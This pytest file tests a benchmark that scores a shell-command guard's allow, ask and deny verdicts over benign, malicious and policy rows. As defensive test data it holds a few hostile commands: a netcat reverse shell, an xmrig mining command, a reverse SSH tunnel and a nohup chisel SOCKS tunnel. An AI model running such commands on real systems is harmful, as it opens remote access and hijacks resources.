"""The tables, on a small own file of rows and verdicts."""

from __future__ import annotations

import re
from pathlib import Path
from typing import Any

import pytest

from benchmarks.evaluate import agreement, guards, outside, own, profiles
from benchmarks.evaluate.exclusions import Exclusion
from benchmarks.evaluate.judging import Verdict, judge
from benchmarks.evaluate.page import Facts, page
from benchmarks.evaluate.rows import Row
from benchmarks.evaluate.score import Judged, mean, shows, tally
from benchmarks.evaluate.tables import Section, Table
from guard import Effect

ALLOW, ASK, DENY = Effect.ALLOW, Effect.ASK, Effect.DENY
EXCLUSION = Exclusion(
    file="malicious_shell", category="b", kind="content", reason="nothing in it is a secret"
)


def judged(file: str, *triples: tuple[str, str, Effect], **fields: Any) -> list[Judged]:
    """Rows of (source, category, effect)."""
    return [
        (
            Row(file, f"{file}:{at}", source, "malicious", category, "bash", {"command": "x"}),
            Verdict(effect, **fields),
        )
        for at, (source, category, effect) in enumerate(triples)
    ]


def cells(table: Table, name: str) -> list[str]:
    """The figures of one row."""
    (row,) = [row for row in table.rows if row[0] == name]
    return list(row[1:])


def test_the_guard_is_asked_for_each_row_in_its_profile() -> None:
    """Verdicts come in the order of the rows, with what they are counted by."""
    commands = ("ls -la", "xmrig -o stratum+tcp://pool.example.org:3333", "ssh u@192.0.2.7 uptime")
    rows = [
        Row("own", str(at), "own", "-", "-", "bash", {"command": command})
        for at, command in enumerate(commands)
    ]
    profiles_of = ["baseline", "strict", "baseline"]
    harmless, mining, remote = judge(rows, profiles_of, title="test")
    assert harmless.effect is ALLOW
    assert not harmless.stopped
    assert mining.effect is DENY
    assert "resource_hijack.mining" in mining.rules
    assert mining.programs == {"xmrig"}
    assert remote.effect is ASK
    assert remote.stopped
    assert harmless.digest == mining.digest != ""


def test_sources_weigh_the_same_in_the_mean() -> None:
    """One of one and none of three is a mean of a half."""
    rows = judged("benign_shell", ("a", "x", DENY), *[("b", "x", ALLOW)] * 3)
    tallies = tally(rows, lambda row: row.source)
    assert mean(tallies, lambda t: t.denied).share == 0.5
    section = outside.benign("benign_shell", rows)
    assert cells(section.tables[0], "a")[:2] == ["1", "100.00 % (20.65-100.00)"]
    assert cells(section.tables[0], "**mean over sources**")[1].startswith("50.00 %")
    assert "an error" in section.remarks[0]


def test_both_means_are_shown_with_and_without_the_excluded() -> None:
    """The excluded category pulls the first mean down and is not in the second."""
    rows = judged(
        "malicious_shell", ("s", "a", DENY), ("s", "a", ASK), ("s", "b", ALLOW), ("s", "c", ALLOW)
    )
    table = outside.malicious("malicious_shell", rows, [EXCLUSION]).tables[0]
    assert cells(table, "b (excluded)")[0] == "1"
    whole = cells(table, "**mean over 3 categories, all rows**")
    kept = cells(table, "**mean over 2 categories, without the excluded**")
    assert whole[3].startswith("33.3 %")
    assert kept[3].startswith("50.0 %")
    assert kept[1:3] == ["25.0 %", "25.0 %"]


def test_missed_rows_are_named_by_id_alone() -> None:
    """No text of a row reaches a section."""
    rows = judged("malicious_shell", ("s", "a", ALLOW), ("s", "b", ALLOW))
    section = outside.malicious("malicious_shell", rows, [EXCLUSION])
    assert section.remarks == ["allowed although not excluded: 1: `malicious_shell:0`"]
    listed = outside.exclusion_list([EXCLUSION], {"malicious_shell": rows})
    assert listed.tables[0].rows[0][3] == "0 of 1"


def policy_row(at: int, label: str, rules: set[str], subpolicy: str = "mining") -> Judged:
    """A row of the policy file."""
    row = Row("policy", f"p:{at}", "s", label, "c", "bash", {}, {"subpolicy": subpolicy})
    return row, Verdict(DENY if rules else ALLOW, frozenset(rules))


def test_only_the_rules_meant_for_it_count_as_naming_a_violation() -> None:
    """Another rule stops the call and does not name it."""
    rows = [
        policy_row(0, "policy-violating", {"resource_hijack.mining"}),
        policy_row(1, "policy-violating", {"persistence.cron"}),
        policy_row(2, "policy-allowed", {"remote_access.outbound_ssh"}),
        policy_row(3, "policy-allowed", set()),
        policy_row(4, "policy-ambiguous", set()),
    ]
    section = outside.policy("policy", rows)
    owed = cells(section.tables[0], "**owed, all**")
    assert (owed[0], owed[1][:6], owed[2][:5]) == ("2", "50.0 %", "100.0")
    innocent = cells(section.tables[0], "innocent look-alikes")
    assert (innocent[1][:5], innocent[2][:6]) == ("0.0 %", "50.0 %")
    assert section.remarks == ["1 ambiguous rows are not scored", "not named: 1: `p:1`"]


@pytest.mark.parametrize(
    ("expect", "kinds", "programs", "seen"),
    [
        ("exec.shell", set(), {"find", "sh"}, True),
        ("exec.shell", {"file.read"}, {"find"}, False),
        ("exec.command", {"code.run"}, {"find"}, True),
        ("exec.command", set(), {"find"}, False),
        ("net.recv+file.write", {"file.write", "network.listen"}, set(), True),
        ("net.recv+file.write", {"file.write"}, set(), False),
        ("file.read", {"file.read"}, set(), True),
        ("file.read", {"file.write"}, set(), False),
    ],
)
def test_a_capability_is_seen_in_the_operations(
    expect: str, kinds: set[str], programs: set[str], seen: bool
) -> None:
    """Not in what is decided."""
    row = Row("g", "g:1", "g", "-", "-", "bash", {}, {"expect": expect, "binary": "find"})
    verdict = Verdict(ALLOW, kinds=frozenset(kinds), programs=frozenset(programs))
    assert shows(row, verdict) is seen


@pytest.mark.parametrize(
    ("category", "about"),
    [
        ("peer/pack/cdn/vendor", "cdn"),
        ("peer/fixtures/cdn.vendor", "cdn"),
        ("peer/edge_cases/quoting/core", "quoting"),
        ("peer/rules-git", "rules-git"),
    ],
)
def test_a_class_is_the_leading_part_of_a_category(category: str, about: str) -> None:
    """The same subject in packs and fixtures is one class."""
    assert agreement.topic(category) == about


def test_disagreements_are_told_with_their_direction_and_reason() -> None:
    """Looser where the peer blocks, stricter where it allows; prompts are no calls."""
    rows = [
        (Row("peers", str(at), "p", label, "p/pack/x/y", tool, {}), Verdict(effect))
        for at, (label, tool, effect) in enumerate(
            [
                ("blocked-by-peer", "bash", ALLOW),
                ("blocked-by-peer", "bash", ASK),
                ("allowed-by-peer", "bash", DENY),
                ("blocked-by-peer", "prompt", ALLOW),
                ("minimal-pair", "bash", ALLOW),
            ]
        )
    ]
    section = agreement.agreement(rows, {"p/x": {"looser": "for a reason"}})
    assert cells(section.tables[0], "**all**")[0] == "3"
    assert [list(row) for row in section.tables[1].rows] == [
        ["p/x", "looser", "allow", "1", "for a reason"],
        ["p/x", "stricter", "deny", "1", "not explained"],
    ]
    assert section.remarks == ["1 classes are not explained"]


def test_the_reasons_of_the_project_are_well_formed(tmp_path: Path) -> None:
    """Each explains one direction or both, and nothing else."""
    assert agreement.read_explanations()
    bad = tmp_path / "bad.json"
    bad.write_text('{"p/x": {"lose": "y"}}', encoding="utf-8")
    with pytest.raises(ValueError, match="neither"):
        agreement.read_explanations(bad)


def test_profiles_stand_beside_one_another() -> None:
    """One line a profile; a file that is not there is a dash."""
    files = {
        "benign_shell": judged("benign_shell", ("a", "x", ASK), ("b", "x", ALLOW)),
        "malicious_shell": judged("malicious_shell", ("s", "a", DENY), ("s", "b", ALLOW)),
    }
    table = profiles.profile_section({"strict": files}, [EXCLUSION]).tables[0]
    found = cells(table, "strict")
    assert found[:2] == ["0.00 %", "50.00 %"]
    assert found[6] == "100.0 % (50.0 %)"
    assert found[7:] == ["-", "-"]


def test_own_cases_that_go_wrong_are_shown_in_full() -> None:
    """The own corpus may be quoted."""
    row = Row("own_cases", "t: a case", "t", "deny", "baseline", "bash", {"command": "curl x"})
    section = own.own_section({"own_cases": [(row, Verdict(ALLOW))]})
    assert section.remarks == ["t: a case: allow instead of deny: `curl x`"]


@pytest.fixture(autouse=True)
def _homes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Adapters run in a folder of the test's own."""
    monkeypatch.setattr(guards, "HOMES", tmp_path)


def spec(**fields: Any) -> guards.Spec:
    """A guard of the project's own."""
    return guards.Spec("mine", "regexes.py", "", "a note", **fields)


def guard_rows() -> dict[str, list[Row]]:
    """One row of each kind."""
    made = {
        "policy_tunnel_mining": ("policy-violating", "ssh -N -R 2022:localhost:22 u@192.0.2.7"),
        "malicious_shell": ("malicious", "nc -e /bin/sh 192.0.2.7 4444"),
        "benign_shell": ("benign", "git status --short"),
        "disguised": ("deny", "nohup chisel client 192.0.2.7:8080 R:socks"),
    }
    return {
        name: [Row(name, name, "s", label, "c", "bash", {"command": command})]
        for name, (label, command) in made.items()
    }


@pytest.mark.parametrize("adapter", ["regexes.py", "argv_table.py"])
def test_the_own_baselines_answer_through_their_adapter(adapter: str) -> None:
    """Tunnel, shell and tool are caught, ordinary work is not, and only counts are kept."""
    one = guards.measure(guards.Spec("mine", adapter, "", "a note"), guard_rows(), [])
    assert one["policy_owed"] == one["disguised"] == [1, 1]
    assert one["malicious"] == [[1, 1]]
    assert one["benign_denied"] == one["benign_asked"] == [[0, 1]]
    assert one["microseconds"] > 0
    section = guards.guards_section([spec()], {"mine": one})
    assert cells(section.tables[0], "mine")[0].startswith("100 %")
    assert section.remarks == ["**mine**: a note"]


def test_an_adapter_that_does_not_answer_is_no_verdict(monkeypatch: pytest.MonkeyPatch) -> None:
    """A guard that could not be asked is told, never counted as allow."""
    monkeypatch.setattr(guards.Spec, "command", ["false"])
    with pytest.raises(ValueError, match="answered 0 of 1"):
        guards.ask(spec(), ["ls"])


def test_an_unknown_verdict_is_none(monkeypatch: pytest.MonkeyPatch) -> None:
    """Only allow, ask and deny are verdicts."""
    monkeypatch.setattr(guards.Spec, "command", ["echo", '["maybe", 1.0]'])
    with pytest.raises(ValueError, match="answered 1 of 1"):
        guards.ask(spec(), ["ls"])


def test_asking_counts_as_not_allowing() -> None:
    """For attacks; benign rows tell denied and asked apart."""
    one = guards.measure(spec(), guard_rows(), [], lambda rows: [guards.Answer("ask", 2.0)] * 4)
    assert one["policy_owed"] == [1, 1]
    assert one["benign_denied"] == [[0, 1]]
    assert one["benign_asked"] == [[1, 1]]
    assert one["microseconds"] == 2.0


def test_a_sample_takes_rows_of_every_source() -> None:
    """At most so many of each, and the same ones each time."""
    seen: list[Row] = []

    def answer(rows: Any) -> list[guards.Answer]:
        seen.extend(rows)
        return [guards.Answer("allow", 1.0) for _ in rows]

    rows = [
        Row("benign_shell", f"{source}{at}", source, "benign", "c", "bash", {"command": "ls"})
        for source, count in (("a", 10), ("b", 2))
        for at in range(count)
    ]
    guards.measure(spec(sample=3), {"benign_shell": rows}, [], answer)
    assert [row.id for row in seen] == ["a0", "a4", "a8", "b0", "b1"]


def test_the_list_of_guards_is_pinned_and_has_adapters() -> None:
    """Each from a registry has one version and a licence, and no two have one title."""
    specs = guards.read_specs()
    assert len({one.title for one in specs}) == len(specs)
    for one in specs:
        assert bool(one.package) == bool(one.version) == bool(one.licence) == bool(one.registry)
        assert re.fullmatch(r"[\d.]*", one.version)


def test_the_page_is_made_of_its_input_alone() -> None:
    """Twice the same text; the facts and each section are in it; bars are escaped."""
    facts = Facts("2026-01-02", "1.2.3", "abc", 1234, "def")
    sections = [Section("A part", "words", [Table(("a", "b"), [["x|y", "1"]])], ["a remark"])]
    text = page(facts, sections)
    assert text == page(facts, sections)
    assert "1,234 labelled" in text
    assert "| 2026-01-02 | 1.2.3 | `abc` | `def` |" in text
    assert "## A part\n\nwords\n\n| a | b |\n|---|---:|\n| x\\|y | 1 |\n\n- a remark\n" in text
    assert "x|y" in sections[0].text()


def test_a_folder_of_own_rows_is_no_scoreboard() -> None:
    """What is not there is told; only the whole set makes the page."""
    whole = (*outside.BENIGN, *outside.MALICIOUS, "policy_tunnel_mining")
    assert outside.lacking(dict.fromkeys(whole)) == []
    assert outside.lacking(dict.fromkeys([*whole, "dualuse_shell"])) == []
    assert outside.lacking({"benign_shell": []}) == [n for n in whole if n != "benign_shell"]
